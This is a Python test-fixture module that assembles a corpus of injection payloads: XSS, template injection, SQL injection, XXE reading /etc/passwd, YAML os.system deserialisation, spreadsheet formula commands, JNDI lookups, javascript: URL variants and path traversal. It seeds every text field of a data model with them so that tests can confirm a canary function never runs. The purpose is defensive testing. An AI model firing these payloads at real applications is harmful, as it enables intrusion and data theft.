"""What somebody might write into a data file to do harm, and cities that are full of it.

`CORPUS` holds hostile words by the language that they are written in, `city` puts them into every text field
that the model has: in a city, a field is another one of them in each entry, and over all `CITIES` each field
has been each of them. `canary` must never run; the tests of the browser look whether it did.
"""

import json
from collections.abc import Callable, Iterator
from typing import Any

from ecosystem import model
from ecosystem.dataset.draft import LISTS, SECTIONS
from ecosystem.model import ENTITY_SECTIONS, ORGANISATION_SECTIONS, Section, Shape
from ecosystem.model.descriptions import Field, Form, written_fields
from tests.everywhere import also

Document = dict[str, Any]

CORPUS: dict[str, tuple[str, ...]] = {
    "HTML": (
        "<script>canary()</script>",
        "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
        "<scr<script>ipt>canary()</scr</script>ipt>",
        "<script\u00a0type=module>canary()</script>",
        "<!--<script>",
        "--><script>canary()</script>",
        "--!><img src=x onerror=canary()>",
        "<![CDATA[<script>canary()</script>]]>",
        "</style><script>canary()</script>",
        "</title><script>canary()</script>",
        "</textarea><script>canary()</script>",
        "</noscript><img src=x onerror=canary()>",
        "</option></select><img src=x onerror=canary()>",
        "</summary></details><img src=x onerror=canary()>",
        "</p></li></ul></main><h1>Elsewhere</h1>",
        "<img src=x onerror=canary()>",
        "<img src='x' onerror='canary()'//",
        "<IMG SRC=x OnErRoR=canary() >",
        "<details open ontoggle=canary()>",
        "<video><source onerror=canary()></video>",
        "<body onload=canary()>",
        "<input autofocus onfocus=canary()>",
        "<iframe srcdoc='<script>parent.canary()</script>'>",
        "<object data=javascript:canary()>",
        "<embed src=javascript:canary()>",
        "<a href=javascript:canary()>press</a>",
        "<base href=//example.org/>",
        "<link rel=stylesheet href=//example.org/x.css>",
        "<meta http-equiv=refresh content=0;//example.org>",
        "<form action=//example.org><button>go",
        "<template><script>canary()</script></template>",
        "<plaintext>",
        "<style>*{display:none}</style>",
        "<a id=data><a id=panel name=title>",
        "&lt;script&gt;canary()&lt;/script&gt;",
        "&#60;img src=x onerror=canary()&#62; &amp",
        "&amp;lt;b&amp;gt; &#x3c;b&#x3e; &lt",
        "%3Cscript%3Ecanary()%3C/script%3E",
        "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
        "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    ),
    "attributes": (
        '"><img src=x onerror=canary()>',
        "'><img src=x onerror=canary()>",
        '" onfocus=canary() autofocus x="',
        "' onmouseover=canary() x='",
        "` onclick=canary() `",
        'x"/onpointerenter="canary()',
        '" style="position:fixed;inset:0" x="',
        '" srcdoc="<script>canary()</script>',
        "&quot; onclick=&quot;canary()&quot;",
        "x onmouseover=canary() y=",
        "url(javascript:canary())",
        "}*{background:url(//example.org/x)}",
        "expression(canary())",
    ),
    "SVG and MathML": (
        "</svg><script>canary()</script>",
        "<svg/onload=canary()>",
        "<svg><script>canary()</script></svg>",
        "<svg><animate onbegin=canary() attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:canary()>",
        "<svg><foreignObject><img src=x onerror=canary()>",
        "<svg><use href=data:image/svg+xml,<svg/onload=canary()>>",
        "</text></g><image href=x onerror=canary()>",
        "<math><mi xlink:href=javascript:canary()>",
        "<math><mtext><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=canary()>'>",
    ),
    "templates": (
        "{{7*7}}",
        "{{ self.__init__.__globals__ }}",
        "{% raw %}{{ view }}",
        "{% include '/etc/passwd' %}",
        "{# comment",
        "{{constructor.constructor('canary()')()}}",
        "${canary()}",
        "${{7*7}}",
        "#{canary()}",
        "<%= 7*7 %>",
        "[[${7*7}]]",
        "{0.__class__} {name!r} %(name)s %s %n",
        "$1 $& $` $' \\1 \\g<0>",
        "${jndi:ldap://example.org/x}",
    ),
    "script": (
        "</script><script>canary()</script>",
        "</SCRIPT ><script>canary()</script>",
        "</script/x><img src=x onerror=canary()>",
        "<!--<script></script>--></script>",
        '\\"}];canary();//',
        '"}}];canary();[{"a":"',
        "';canary();'",
        "`;canary();`${canary()}",
        "\\u003cscript\\u003ecanary()",
        "\\x3cimg src=x onerror=canary()\\x3e",
        "\\u2028canary()\\u2029",
        "*/ canary() /*",
        "//# sourceMappingURL=//example.org/x",
        "</application/ld+json></script>",
        '{"@context": "//example.org", "@id": "javascript:canary()"}',
        "window.opener.location='//example.org'",
        "null",
        "undefined NaN -Infinity 1e999",
        "\\",
        '"',
        "'",
    ),
    "formulas": (
        '=HYPERLINK("//example.org","press")',
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "'=1+1",
        "''=1+1",
        "\uff1d1+1",
        '";=1+1;"',
        '",=1+1,"',
        "=IMPORTXML(CONCAT(1),2)",
        "%0A=1+1",
        "-",
        "_x000D_=1+1",
    ),
    "XML": (
        "]]><script>canary()</script><![CDATA[",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "&y; &#0; &#x1F; &unknown;",
        '<?xml version="1.0"?><x/>',
        "<?xml-stylesheet href='//example.org/x.xsl'?>",
        "?><?php canary() ?>",
        "</data></node><node id='x'/>",
        '"/><edge source="a" target="b"/>',
        "<xi:include href='file:///etc/passwd'/>",
        "-- --> <!-- --",
    ),
    "Markdown": (
        "[press](javascript:canary())",
        "![x](//example.org/x.png)",
        "<https://example.org>",
        "*a* _b_ **c** `d` ~~e~~",
        "# A heading",
        "1. A list",
        "- [ ] A task",
        "| a | b |",
        "```html",
        "[x]: //example.org 'title'",
        "> Someone else said",
        "---",
        "a](x) [b",
        "<details><summary>a</summary>",
    ),
    "diagrams": (
        '"]; b [label="x"]; a -> b; "',
        '\\"]; b; //',
        "\\N \\G \\L \\l \\\\",
        '<<TABLE HREF="javascript:canary()"></TABLE>>',
        'x"] --> n99["y',
        'click n1 "javascript:canary()"',
        "%%{init: {'securityLevel': 'loose'}}%%",
        "end subgraph graph direction",
        "#quot; #60;b#62; #9829;",
        "a; b & c --- d",
    ),
    "YAML and SQL": (
        "!!python/object/apply:os.system [canary]",
        "&a [*a, *a]",
        "<<: *a",
        "- a: b # c",
        "{a: b, c: [d]}",
        "'); DROP TABLE nodes; --",
        "\" OR 1=1; ATTACH 'x' AS y; --",
        "radio* NEAR(a b) NOT c",
        "%' UNION SELECT sql FROM sqlite_master --",
        "NO",
        "012:30:45",
    ),
    "Typst": (
        '#panic("x")',
        '#read("/etc/passwd")',
        "#set page(width: 1pt) [",
        "= A heading",
        "$x$ @cite <label>",
        "\\u{41} \\\\ ]",
        "// /* `raw` */",
        '#eval("1") #import "x": *',
    ),
    "calendars": (
        "\\nEND:VEVENT\\nBEGIN:VEVENT",
        "a;b,c:d\\;e\\,f",
        "SUMMARY;ALTREP=//example.org:x",
        "ATTACH:file:///etc/passwd",
        "\\n\\N\\",
    ),
    "addresses": (
        "javascript:canary()",
        "JaVaScRiPt:canary()//",
        "data:text/html,<script>canary()</script>",
        "vbscript:canary",
        "//example.org/x",
        "https://example.org/'onclick=canary()",
        "file:///etc/passwd",
    ),
    "letters": (
        "W" * 280,
        "a" * 33 + "\u00ad".replace("\u00ad", "-") + "b" * 250,
        "/" * 200,
        "x " * 140 + "x",
        "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627 abc 123 \u05d3",
        "(\u05d0) [\u0628] <\u05d2>",
        "\u0627\u0644\u0644\u0647 \ufdfd",
        "\u0421\u043euncil \u0430nd \u0420\u0430rtners",
        "\uff23\uff4f\uff55\uff4e\uff43\uff49\uff4c \U0001d54a",
        "z\u0335\u0321\u035e\u0340\u0341\u0301\u0302\u0303\u0304\u0306\u0307\u0308a\u0300\u0300\u0300\u0300\u0300\u0300",
        "\u0301\u0301\u0301",
        "Cafe\u0301 caf\u00e9",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1ec\U0001f1e7",
        "\u5b57 \ud55c\uad6d\uc5b4 \u0e44\u0e17\u0e22",
        "\u0130I\u0131i \u00df\u1e9e \ufb03",
    ),
    "names of a language's own": (
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "prototype",
        "toString",
        "length",
        "then",
    ),
    "paths": (
        "..",
        "../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/passwd",
        "C:\\CON",
        "CON",
        "a/b",
        "~root/.ssh",
        "index.html",
        "%2e%2e%2f",
        "file.html\u2044..",
    ),
}
ALL = tuple(text for texts in CORPUS.values() for text in texts)

EACH = len(Shape)
"""Entries of each section in a city: as many as there are kinds that look different."""
CITIES = range(-(-len(ALL) // EACH))
"""The numbers of the cities that together have each text in each field."""
TRIED = [*CITIES[:5], *also(*CITIES[5:])]
"""For `parametrize`: the first five cities have every text, the others have them in more fields."""

BAD_ADDRESSES = (
    "javascript:canary()",
    "JAVASCRIPT:canary()",
    "jAvAsCrIpT:canary()",
    "javascript://example.org/%0Acanary()",
    "javascript://https://example.org",
    "java script:canary()",
    "java\tscript:canary()",
    "java\nscript:canary()",
    "java\r\nscript:canary()",
    "java\u0000script:canary()",
    "\u0001javascript:canary()",
    "java\u200bscript:canary()",
    "\u202ejavascript:canary()",
    "\ufeffjavascript:canary()",
    "java\u00adscript:canary()",
    "\u00a0javascript:canary()",
    "\u3000javascript:canary()",
    "javascript&colon;canary()",
    "javascript&#58;canary()",
    "&#106;avascript:canary()",
    "&#x6A;avascript:canary()",
    "javascript%3Acanary()",
    "%6Aavascript:canary()",
    "javascript\uff1acanary()",
    "\uff4aavascript:canary()",
    "j\u0430vascript:canary()",
    "\\x6aavascript:canary()",
    "\\u006aavascript:canary()",
    "://javascript:canary()",
    "-javascript:canary()",
    "x javascript:canary()",
    "feed:javascript:canary()",
    "view-source:javascript:canary()",
    "jar:https://example.org!/",
    "data:text/html,<script>canary()</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=canary()>",
    "vbscript:canary",
    "VbScript:canary",
    "livescript:canary",
    "mocha:canary",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "about:blank",
    "ftp://example.org/",
    "intent://example.org#Intent;end",
    "tel:canary",
    "//example.org/",
    "/index.html",
    "https:javascript:canary()",
    "https:/example.org",
    "https://",
    "https:///example.org",
    "https://example.org@example.com/",
    "https://user:secret@example.com/",
    'https://example.org/"onclick=canary()',
    "https://example.org/<script>",
    "https://example.org\\@example.com/",
    "https://exa mple.org/",
    "https://example.org/\u202etxt",
    "https://example.org%2f@example.com",
    "https://[javascript]/",
    "mailto:",
    "mailto:javascript:canary()",
    "mailto:a@example.org\nbcc:b@example.org",
)

UNSEEN = {
    "changes the reading direction": "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
    "\u2066\u2067\u2068\u2069",
    "cannot be seen": "\u00ad\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2064\ufeff\ufffb\U000e0041",
    "control character": "\u0000\u0001\u0008\u000b\u000c\u001b\u007f\u0085\u009f",
}

BAD_IDS = (
    "__proto__",
    "toString",
    "hasOwnProperty",
    "CON",
    "..",
    ".",
    "a/b",
    "a\\b",
    "../../etc/passwd",
    "a b",
    "a\u0000b",
    "Abc",
    "\u00e9cole",
    "e\u0301cole",
    "\u0430bc",
    "\uff41bc",
    "a--b",
    "-a",
    "a-",
    "-",
    "",
    "a.b",
    "a#b",
    "a:b",
    "#",
    "<b>",
    "'",
    "\u0661",
    "a" * 61,
    "NO",
    "010",
)
GOOD_IDS = ("constructor", "con", "nul", "aux", "prototype", "length", "then", "abc", "1", "data", "index")
"""Ids that mean something elsewhere, and nothing here."""


# Cities full of it

Words = Callable[[int], str]
"""Gives the next text, within so many characters."""


def city(number: int, *, harmless: bool = False) -> Document:
    """A data file in which the fields of each entry are texts of the corpus, a different one in each entry.

    Its harmless twin is the same with plain words.
    """
    return city_from(number * EACH, harmless=harmless)


def city_from(first: int, *, harmless: bool = False) -> Document:
    """Such a city, whose names are the texts from this place in the corpus on."""
    document = bare_city(EACH)
    words = _Rotation(first, harmless)
    fill(document["ecosystem"], model.About, words.begin(0))
    for section, (kind, _) in (SECTIONS | LISTS).items():
        entries = document[section]
        for place, entry in enumerate(entries.values() if isinstance(entries, dict) else entries):
            fill(entry, kind, words.begin(place))
    return document


class _Rotation:
    """Texts of the corpus, each time another one, from a place in it."""

    def __init__(self, start: int, harmless: bool) -> None:
        self._start = start
        self._harmless = harmless

    def begin(self, place: int) -> Words:
        fields = iter(range(10_000))

        def words(limit: int) -> str:
            field = next(fields)
            if self._harmless:
                return f"words {place} {field}"
            return fitted(ALL[(self._start + place + 7 * field) % len(ALL)], limit)

        return words


def fitted(text: str, limit: int) -> str:
    """The text as a field of so many characters can hold it. A cut never leaves a joiner at the end."""
    return text[: min(limit, 290)].strip().rstrip("\u200c\u200d")


def bare_city(each: int) -> Document:
    """A data file with so many entries in every section, with every list, and no words in it yet."""
    places = range(each)
    shapes = list(Shape)

    def ids(letter: str) -> list[str]:
        return [f"{letter}{place}" for place in places]

    kinds = {
        f"k{place}": {
            "section": ENTITY_SECTIONS[place % len(ENTITY_SECTIONS)].value,
            "shape": shapes[place].value,
            "hue": list(model.Hue)[place % len(model.Hue)].value,
        }
        for place in places
    }
    families = list(model.Family)
    types: Document = {
        name: {
            "family": families[place % len(families)].value,
            "from": [section.value for section in Section],
            "to": [section.value for section in Section],
            "transitive": not place % 3,
            "one_off": not place % 4,
        }
        for place, name in enumerate(ids("t"))
    }
    source = {"source": ["s0", "s1"]}
    progress = [{"date": "2026-01", "state": "done", "evidence": ["s2"], **source}]
    document: Document = {
        "ecosystem": {"edition": "2026-11", "plan": "w0"},
        "kinds": kinds,
        "link_types": types,
        "sources": {name: {"date": "2021-03", "url": f"https://example.org/{name}"} for name in ids("s")},
    }
    for section in ENTITY_SECTIONS:
        fitting = [name for name, kind in kinds.items() if kind["section"] == section.value]
        document[section.value] = {
            name: {"kind": fitting[place % len(fitting)], "facts": [{**source}], **source}
            for place, name in enumerate(
                ids(section.value[0] if section in ORGANISATION_SECTIONS else section.value[:2])
            )
        }
    document |= {
        "plans": {name: {"owners": [f"g{place}"], **source} for place, name in enumerate(ids("w"))},
        "priorities": {
            name: {"plan": f"w{place % 2}", "number": place + 1, "progress": progress, **source}
            for place, name in enumerate(ids("y"))
        },
        "actions": {
            name: {
                "plan": f"w{place % 2}",
                "leads": [f"n{place}"],
                "due": "2027-01",
                "advances": [f"y{place}"],
                "measure": {"direction": "increase", "readings": [{"date": "2025", "value": 2}]},
                "progress": progress,
                **source,
            }
            for place, name in enumerate(ids("a"))
        },
        "tours": {
            name: {"steps": [{"show": [f"g{place}"], **source}, {"show": [f"k{place}"], **source}]}
            for place, name in enumerate(ids("z"))
        },
        "links": [
            {
                "from": f"{'gnp'[place % 3]}{place}",
                "type": f"t{place}",
                "to": f"{'npg'[place % 3]}{(place + 1) % each}",
                "basis": list(model.Basis)[place % len(model.Basis)].value,
                **source,
            }
            for place in places
        ],
        "disputes": [{"about": f"p{place}", "claims": [{**source}, {**source}]} for place in places],
        "accepted_gaps": [{"gap": "organisation without priority", "about": f"p{place}"} for place in places],
    }
    return json.loads(json.dumps(document))  # type: ignore[no-any-return]


def text_of(document: Document) -> str:
    """The document as the text of a data file, a field a line. JSON is YAML."""
    return json.dumps(document, ensure_ascii=False, indent=0)


# Every text field of the model

KEPT = {"about"}
"""Fields that are not words, but ids."""


def fill(entry: Document, kind: type[model.Value], words: Words) -> None:
    """Put words into every text field that a value has, present or not, and into the values within it."""
    for field in written_fields(kind):
        if limit := text_limit(field):
            said = words(limit)
            entry[field.written] = [said] if field.many else said
        elif field.entry:
            inner = entry.get(field.written, [])
            for each in inner if isinstance(inner, list) else [inner]:
                fill(each, field.entry, words)


def text_limit(field: Field) -> int | None:
    """How long a free text may be; none where the field is read as something else."""
    if field.form is not Form.TEXT or field.pattern or field.written in KEPT:
        return None
    return field.limit


def texts(value: Any, kind: type[model.Value], path: str = "") -> Iterator[tuple[str, str]]:
    """The words of an entry of a document, each with the path of its field."""
    for field in written_fields(kind):
        inner = value.get(field.written, [])
        for each in inner if isinstance(inner, list) else [inner]:
            if text_limit(field):
                yield f"{path}.{field.written}", each
            elif field.entry:
                yield from texts(each, field.entry, f"{path}.{field.written}")
